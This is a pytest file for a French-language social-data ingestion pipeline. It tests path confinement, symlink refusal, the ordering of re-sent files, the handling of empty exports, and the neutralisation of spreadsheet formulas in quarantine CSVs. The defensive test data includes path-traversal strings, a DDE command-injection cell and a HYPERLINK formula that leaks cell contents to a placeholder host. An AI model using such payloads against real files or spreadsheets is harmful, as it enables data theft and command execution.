"""Issue 17, lane « paths »: every case of defects 2, 3, 6 and 7, built from its description.

- 6: partner ids and ``files:`` patterns that would leave the project, symbolic links in the raw
  folder (one pointing outside made the real ``housing_first_2021.xlsx`` a « duplicate »), writes
  built from data confined to the project's output folders;
- 2: a corrected re-send named the way browsers name a second download, « … (1).tsv »;
- 3: an export received empty for the report year: « données absentes », not zero;
- 7: the quarantine file sent back to the partner is safe to open in a spreadsheet.
"""

from __future__ import annotations

import io
import json
from pathlib import Path
from types import SimpleNamespace

import pandas as pd
import pytest
import yaml

from observatoire.config.paths import PathOutsideProject, Paths
from observatoire.config.settings import IngestSettings, InputsSettings, SettingsError
from observatoire.core.coverage import Coverage
from observatoire.core.errors import ExportRejected, MappingError
from observatoire.core.spreadsheet import neutralise_cell, restore_cell, text_cell
from observatoire.intake.check import EXIT_CODES, check_file, render_text
from observatoire.intake.discovery import find_raw_files, resend_order
from observatoire.intake.ingest import ingest_network
from observatoire.intake.mapping import load_mapping, load_partners
from observatoire.intake.mapping_schema import validate_mapping
from observatoire.intake.pseudonymise import Pseudonymiser
from observatoire.intake.stages import write_quarantine

ROOT = Path(__file__).resolve().parents[3]
CODES = ROOT / "params" / "codes"
PARTNERS = ROOT / "params" / "partners"
KEY = Pseudonymiser(b"cle-de-test-chemins-32-octets!!!")
TSV_HEADER = "Date\tInitiales\tSexe\tÂge estimé\tZone\tType d'intervention\tDurée (h)"


def _raw(partner: str) -> dict:
    return yaml.safe_load((PARTNERS / f"{partner}.yaml").read_text(encoding="utf-8"))


def _refusal(raw: dict, name: str = "p.yaml") -> str:
    with pytest.raises(MappingError) as err:
        validate_mapping(raw, Path(name), CODES)
    return str(err.value)


# --- defect 6: partner ids and file patterns ---------------------------------------------------


@pytest.mark.parametrize(
    "pid", ["../../tmp/escaped", "abri/nuit", "abri.nuit", "Abri", "_abri", "a" * 41, ""]
)
def test_a_partner_id_outside_the_closed_character_set_is_refused_in_french(pid):
    raw = _raw("abri_nuit") | {"partner_id": pid}
    message = _refusal(raw)
    assert "partner_id" in message and "1 à 40 caractères" in message and "Traceback" not in message


def test_a_forty_character_partner_id_is_accepted():
    validate_mapping(_raw("abri_nuit") | {"partner_id": "a" * 40}, Path("p.yaml"), CODES)


@pytest.mark.parametrize(
    ("pattern", "why"),
    [
        ("../secrets/*.csv", "« .. »"),
        ("abri_nuit/../../x.csv", "« .. »"),
        ("/etc/*.csv", "chemin absolu"),
        ("C:/exports/*.csv", "chemin absolu"),
        ("C:exports.csv", "lecteur Windows"),
        ("abri_nuit\\*.csv", "barre oblique inverse"),
        ("~/exports/*.csv", "dossier personnel"),
    ],
)
def test_a_files_pattern_leaving_raw_dir_is_refused_for_exports_and_joins(pattern, why):
    raw = _raw("abri_nuit")
    raw["exports"][0]["files"] = pattern
    message = _refusal(raw)
    assert why in message and "exports[0].files" in message or "files" in message
    assert "sous-dossier" in message
    hmis = ROOT / "tests/fixtures/foreign/hmis/params"
    raw = yaml.safe_load((hmis / "partners/reseau_hmis.yaml").read_text(encoding="utf-8"))
    raw["exports"][0]["join"][0]["files"] = pattern
    with pytest.raises(MappingError, match="motif refusé"):
        validate_mapping(raw, Path("reseau_hmis.yaml"), hmis / "codes")


def test_a_sub_folder_pattern_is_still_accepted():
    raw = _raw("abri_nuit")
    raw["exports"][0]["files"] = "abri_nuit/2024/envois/abri_nuit_sejours_*.csv"
    validate_mapping(raw, Path("p.yaml"), CODES)


def test_a_mapping_file_must_be_named_after_its_partner(tmp_path):
    partners = tmp_path / "partners"
    partners.mkdir()
    raw = _raw("abri_nuit")
    (partners / "refuge.yaml").write_text(yaml.safe_dump(raw, allow_unicode=True), "utf-8")
    with pytest.raises(MappingError) as err:
        load_partners(partners, CODES)
    assert "le nom du fichier doit être l'identifiant" in str(err.value)
    assert "abri_nuit.yaml" in str(err.value)
    inputs = InputsSettings(raw_dir=tmp_path, partners_dir=partners, codes_dir=CODES)
    report = check_file(tmp_path / "x.csv", "abri_nuit", inputs)
    assert report.mapping_refused and report.exit_code == 2


def test_a_pattern_built_in_code_is_refused_again_by_discovery(tmp_path):
    (tmp_path / "raw").mkdir()
    (tmp_path / "outside.csv").write_text("a\n1\n", encoding="utf-8")
    with pytest.raises(ExportRejected, match="« .. »"):
        find_raw_files(tmp_path / "raw", "../*.csv", "abri_nuit", "l'export « sejours »")


# --- defect 6: symbolic links in the raw folder ------------------------------------------------


def _street_work(tmp_path: Path) -> tuple[Path, dict]:
    raw = _raw("travail_rue")
    raw["exports"][0]["files"] = "travail_rue/travail_rue_*.tsv"
    path = tmp_path / "params" / "travail_rue.yaml"
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(yaml.safe_dump(raw, allow_unicode=True), encoding="utf-8")
    folder = tmp_path / "raw" / "travail_rue"
    folder.mkdir(parents=True, exist_ok=True)
    return folder, {"travail_rue": load_mapping(path, CODES)}


def _tsv(rows: list[str]) -> str:
    return "\n".join([TSV_HEADER, *rows]) + "\n"


ROWS = [
    "05-01-21\tCA\tH\t39\tCentre-ville\tÉcoute / soutien\t1,5",
    "06-01-21\tMD\tF\t25\tGare\tOrientation\t0,5",
]


def test_a_link_outside_the_raw_folder_duplicating_a_real_file_stops_the_run(tmp_path):
    """The case of the issue: a link sorted before the real export, pointing to a copy of it
    outside the project, made the real file « fichier_en_double » (all its rows lost)."""
    folder, partners = _street_work(tmp_path)
    (folder / "travail_rue_2021.tsv").write_text(_tsv(ROWS), encoding="utf-8")
    outside = tmp_path / "ailleurs" / "copie.tsv"
    outside.parent.mkdir()
    outside.write_text(_tsv(ROWS), encoding="utf-8")
    (folder / "travail_rue_2021 (0).tsv").symlink_to(outside)  # sorts first
    with pytest.raises(ExportRejected) as err:
        ingest_network(tmp_path / "raw", partners, KEY, progress=lambda *_: None)
    message = str(err.value)
    assert "lien symbolique" in message and "copie.tsv" in message and "À faire" in message
    (folder / "travail_rue_2021 (0).tsv").unlink()
    result = ingest_network(tmp_path / "raw", partners, KEY, progress=lambda *_: None)
    (real,) = result.files
    assert real.rows_accepted == 2 and not real.rows_quarantined


@pytest.mark.parametrize("target", ["inside", "dangling", "folder"])
def test_links_are_refused_even_inside_the_raw_folder(tmp_path, target):
    folder, partners = _street_work(tmp_path)
    (folder / "travail_rue_2021.tsv").write_text(_tsv(ROWS), encoding="utf-8")
    if target == "inside":
        (folder / "travail_rue_2022.tsv").symlink_to(folder / "travail_rue_2021.tsv")
    elif target == "dangling":
        (folder / "travail_rue_2022.tsv").symlink_to(tmp_path / "absent.tsv")
    else:  # the partner's folder itself is a link to another place
        elsewhere = tmp_path / "autre"
        elsewhere.mkdir()
        (elsewhere / "travail_rue_2021.tsv").write_text(_tsv(ROWS), encoding="utf-8")
        (folder / "travail_rue_2021.tsv").unlink()
        folder.rmdir()
        folder.symlink_to(elsewhere, target_is_directory=True)
    with pytest.raises(ExportRejected, match="lien symbolique"):
        ingest_network(tmp_path / "raw", partners, KEY, progress=lambda *_: None)


def test_the_raw_folder_itself_may_be_a_link(tmp_path):
    folder, partners = _street_work(tmp_path / "vrai")
    (folder / "travail_rue_2021.tsv").write_text(_tsv(ROWS), encoding="utf-8")
    (tmp_path / "raw").symlink_to(tmp_path / "vrai" / "raw", target_is_directory=True)
    result = ingest_network(tmp_path / "raw", partners, KEY, progress=lambda *_: None)
    assert result.files[0].rows_accepted == 2


def test_check_refuses_a_link_with_exit_code_2(tmp_path):
    folder, _ = _street_work(tmp_path)
    real = folder / "travail_rue_2021.tsv"
    real.write_text(_tsv(ROWS), encoding="utf-8")
    (folder / "travail_rue_2022.tsv").symlink_to(real)
    inputs = InputsSettings(raw_dir=tmp_path / "raw", partners_dir=PARTNERS, codes_dir=CODES)
    report = check_file(folder / "travail_rue_2022.tsv", "travail_rue", inputs)
    assert report.exit_code == 2 and "lien symbolique" in render_text(report)


# --- defect 6: writes built from data stay in the project -------------------------------------


def test_paths_confine_writes_to_the_output_folders(tmp_path):
    paths = Paths(tmp_path)
    assert paths.member(paths.quality(2024), "abri_nuit.qmd") == paths.quality(2024) / (
        "abri_nuit.qmd"
    )
    for name in ["../../escaped", "a/b", ".cache", "..", "x\\y", "C:x"]:
        with pytest.raises(PathOutsideProject, match="Écriture refusée"):
            paths.member(paths.quality(2024), name)
    with pytest.raises(PathOutsideProject, match="sortirait des dossiers de sortie"):
        paths.confined(paths.quality(2024) / ".." / ".." / ".." / "escaped.qmd")
    with pytest.raises(PathOutsideProject):
        paths.confined(tmp_path / "params" / "x.csv")
    outside = tmp_path.parent / f"{tmp_path.name}-ailleurs"
    outside.mkdir()
    (paths.outputs).mkdir()
    (paths.outputs / "lien").symlink_to(outside, target_is_directory=True)
    with pytest.raises(PathOutsideProject):  # a link inside outputs/ pointing outside
        paths.confined(paths.outputs / "lien" / "x.csv")


@pytest.mark.parametrize("value", ["../quarantaine", "/tmp/quarantaine", "~/q"])
def test_a_quarantine_folder_outside_the_project_is_refused_at_load(value):
    with pytest.raises(Exception) as err:
        IngestSettings.model_validate({"quarantine_dir": value})
    assert "relatif au dossier du projet" in str(err.value)


def test_a_logo_outside_the_project_is_refused_at_load():
    params = yaml.safe_load((ROOT / "params/pipeline.yaml").read_text(encoding="utf-8"))
    params["report"]["logo"] = "/etc/passwd.png"
    from observatoire.config.settings import Settings

    with pytest.raises(SettingsError, match="relatif au dossier du projet"):
        Settings.from_mapping(params)


# --- defect 2: re-sends named like downloads --------------------------------------------------


def test_browser_copies_sort_after_the_original_numerically():
    names = ["x_2024 (10).tsv", "x_2024 (1).tsv", "x_2024.tsv", "x_2024 (9).tsv", "x_2024(2).tsv"]
    assert sorted(names, key=resend_order) == [
        "x_2024.tsv",
        "x_2024 (1).tsv",
        "x_2024(2).tsv",
        "x_2024 (9).tsv",
        "x_2024 (10).tsv",
    ]
    assert sorted(["a_2024_v2.csv", "a_2024.csv"], key=resend_order) == [
        "a_2024.csv",
        "a_2024_v2.csv",
    ]


def test_a_re_send_named_n_1_replaces_the_original_and_the_log_says_which_and_why(tmp_path):
    folder, partners = _street_work(tmp_path)
    original = [*ROWS, "07-01-21\tJP\tX\t45\tParc\tSoins\t2"]
    (folder / "travail_rue_2021.tsv").write_text(_tsv(original), encoding="utf-8")
    (folder / "travail_rue_2021 (1).tsv").write_text(_tsv(ROWS), encoding="utf-8")
    log: list[str] = []
    result = ingest_network(tmp_path / "raw", partners, KEY, progress=log.append)
    assert len(result.contacts) == 2  # the corrected file's two rows, not the original's three
    old = next(f for f in result.files if f.source_file == "travail_rue/travail_rue_2021.tsv")
    assert old.reasons == {"periode_deja_couverte": 3}
    assert old.duplicate_of == "travail_rue/travail_rue_2021 (1).tsv"
    (line,) = [x for x in log if "periode_deja_couverte" in x]
    assert line.startswith("  travail_rue/travail_rue_2021.tsv : même période que")
    assert "travail_rue_2021 (1).tsv, qui le remplace" in line and "« (1) »" in line
    assert "envoi plus récent conservé" not in line


def test_an_identical_browser_copy_keeps_the_original_name(tmp_path):
    folder, partners = _street_work(tmp_path)
    (folder / "travail_rue_2021.tsv").write_text(_tsv(ROWS), encoding="utf-8")
    (folder / "travail_rue_2021 (1).tsv").write_text(_tsv(ROWS), encoding="utf-8")
    result = ingest_network(tmp_path / "raw", partners, KEY, progress=lambda *_: None)
    copy = next(f for f in result.files if f.duplicate_of)
    assert copy.source_file.endswith("(1).tsv") and copy.reasons == {"fichier_en_double": 2}
    assert set(result.contacts["source_file"]) == {"travail_rue/travail_rue_2021.tsv"}


# --- defect 3: an export received empty for the report year -----------------------------------


def _urgence(tmp_path: Path, coverage: dict | None) -> dict:
    raw = _raw("urgence_sociale")
    raw["exports"][0]["files"] = "urgence_sociale/urgence_sociale_*.csv"
    raw.pop("coverage", None)
    if coverage is not None:
        raw["coverage"] = coverage
    path = tmp_path / "params" / "urgence_sociale.yaml"
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(yaml.safe_dump(raw, allow_unicode=True), encoding="utf-8")
    return {"urgence_sociale": load_mapping(path, CODES)}


def _urgence_files(tmp_path: Path) -> None:
    """2023: a row a day; 2024: the header only (the case of the issue)."""
    fixtures = ROOT / "tests/fixtures/exports/urgence_sociale"
    header = (fixtures / "urgence_sociale_2024_entete_seule.csv").read_bytes()
    folder = tmp_path / "raw" / "urgence_sociale"
    folder.mkdir(parents=True)
    rows = [
        f"US/{i:04d};Nom{i % 50};Prenom{i % 50};01/01/1980;Homme;Belgique;{d:%d/%m/%Y};10:00;"
        "Aide administrative;CPAS;1,5"
        for i, d in enumerate(pd.date_range("2023-01-01", "2023-12-31", freq="D"))
    ]
    body = ("\r\n".join(rows) + "\r\n").encode("cp1252")
    (folder / "urgence_sociale_2023.csv").write_bytes(header + body)
    (folder / "urgence_sociale_2024.csv").write_bytes(header)


@pytest.mark.parametrize("coverage", [{"first": "2023-01", "last": "2024-12"}, None])
def test_an_empty_export_for_the_report_year_is_data_absent_not_zero(tmp_path, coverage):
    partners = _urgence(tmp_path, coverage)
    _urgence_files(tmp_path)
    result = ingest_network(tmp_path / "raw", partners, KEY, progress=lambda *_: None)
    cov = result.coverage
    assert cov.absent_years() == [
        {"partner_id": "urgence_sociale", "year": 2024, "months": list(range(1, 13))}
    ]
    assert cov.absent_in(2024, "urgence_sociale") == ["urgence_sociale"]
    # concerned but not covered: no change 2024/2023, no trend with 2024
    assert not cov.year_covered(2024) and not cov.change_computable(2024)
    assert cov.year_covered(2023) and 2024 not in cov.full_years()
    (warning,) = result.warnings
    assert "données absentes" in warning and "2024" in warning
    again = Coverage.from_json(json.loads(json.dumps(cov.to_json())))
    assert again.absent_years() == cov.absent_years()


@pytest.mark.skipif(
    not (ROOT / "outputs/metrics/coverage.json").exists(),
    reason="pas de sorties du pipeline : lancez `make run`",
)
def test_the_coverage_file_of_a_complete_network_is_unchanged():
    cov = Coverage.from_json(json.loads((ROOT / "outputs/metrics/coverage.json").read_text()))
    assert all("absent" not in rec for rec in cov.to_json()["partners"].values())
    assert cov.absent_years() == []


def test_the_report_says_not_received_rather_than_zero(tmp_path):
    from observatoire.reports.annual.chapters.coverage import partial_year_sentences
    from observatoire.reports.annual.context import (
        ABSENT_CHANGE,
        NOT_RECEIVED,
        not_received,
        uncomputed_change,
    )

    partners = _urgence(tmp_path, {"first": "2023-01", "last": "2024-12"})
    _urgence_files(tmp_path)
    result = ingest_network(tmp_path / "raw", partners, KEY, progress=lambda *_: None)
    data = SimpleNamespace(year=2024, coverage=result.coverage, partners=partners)
    assert not_received(data, "urgence_sociale") and not not_received(data, "urgence_sociale", 2023)
    assert (
        uncomputed_change(data, "urgence_sociale")
        == ABSENT_CHANGE
        == ("non calculée (données non reçues)")
    )
    assert NOT_RECEIVED == "non reçu"
    (sentence,) = partial_year_sentences(data)
    assert "aucune donnée reçue pour 2024" in sentence and "pas zéro" in sentence


def test_check_exits_1_on_an_export_without_any_row(tmp_path):
    inputs = InputsSettings(raw_dir=tmp_path, partners_dir=PARTNERS, codes_dir=CODES)
    path = ROOT / "tests/fixtures/exports/urgence_sociale/urgence_sociale_2024_entete_seule.csv"
    report = check_file(path, "urgence_sociale", inputs)
    assert report.status == "no_rows" and report.exit_code == EXIT_CODES["no_rows"] == 1
    text = render_text(report)
    assert "données absentes" in text and "non reçu" in text and "code de sortie 1" in text


# --- defect 7: the quarantine file sent back to the partner -----------------------------------


@pytest.mark.parametrize(
    ("cell", "safe"),
    [
        ('=HYPERLINK("http://x";"y")', '\'=HYPERLINK("http://x";"y")'),
        ("+32 475 00 00 00", "'+32 475 00 00 00"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
        ("Dupont;=1+1", "'Dupont;=1+1"),  # a Belgian Excel splits on « ; »
        ('Dupont", =1+1', "'Dupont\", =1+1"),
        ("-3", "-3"),  # numbers stay numbers
        ("+12", "+12"),
        ("-0,5", "-0,5"),
        ("1e-3", "1e-3"),
        ("2024-01-02", "2024-01-02"),
        ("Lefèvre", "Lefèvre"),
        ("", ""),
    ],
)
def test_cells_are_neutralised_as_owasp_says_and_restored_exactly(cell, safe):
    assert neutralise_cell(cell) == safe
    assert restore_cell(neutralise_cell(cell)) == cell


def test_the_quarantine_file_is_safe_in_a_spreadsheet(tmp_path):
    """The catalogue's formula_payload case, set aside and written as ingest writes it."""
    from observatoire.intake.ingest import read_partner_file
    from observatoire.reports.quality import _read_quarantine  # noqa: PLC2701 (test)

    mapping = load_mapping(PARTNERS / "urgence_sociale.yaml", CODES)
    rel = "urgence_sociale/urgence_sociale_2024_formules.csv"
    res, _ = read_partner_file(
        ROOT / "tests/fixtures/exports" / rel, rel, mapping, mapping.exports[0]
    )
    path = tmp_path / "q.csv"
    write_quarantine(res.quarantined, path)
    text = path.read_text(encoding="utf-8")
    grid = pd.read_csv(io.StringIO(text), dtype=str, keep_default_na=False, header=None)
    for value in grid.to_numpy().ravel():  # no cell a spreadsheet would evaluate
        assert not value.startswith(("=", "+", "@", "\t", "\r")), value
        assert not value.startswith("-") or value.lstrip("-").replace(",", "").isdigit()
    for separator in (";", "\t", ","):  # opened with another delimiter: still no formula
        for line in text.splitlines():
            for piece in line.split(separator):
                assert not piece.strip('"').startswith(("=", "@")), piece
    quarantined = pd.read_csv(path, dtype=str, keep_default_na=False)
    assert quarantined.loc[0, "Nom"].startswith("'=HYPERLINK")
    back = _read_quarantine(path, ["reason", "column", "line", "Nom"])
    assert back.loc[0, "Nom"] == '=HYPERLINK("http://exemple.invalid/?x="&A1;"Cliquez")'
    assert back.loc[0, "reason"] == "date_manquante" and back.loc[0, "line"] == "3"


def test_the_published_workbook_stores_formula_like_text_as_text(tmp_path):
    from openpyxl import Workbook, load_workbook

    wb = Workbook()
    cell = wb.active.cell(row=1, column=1, value='=HYPERLINK("http://x")')
    text_cell(cell)
    wb.save(tmp_path / "t.xlsx")
    loaded = load_workbook(tmp_path / "t.xlsx").active["A1"]
    assert loaded.data_type == "s" and loaded.value == '=HYPERLINK("http://x")'
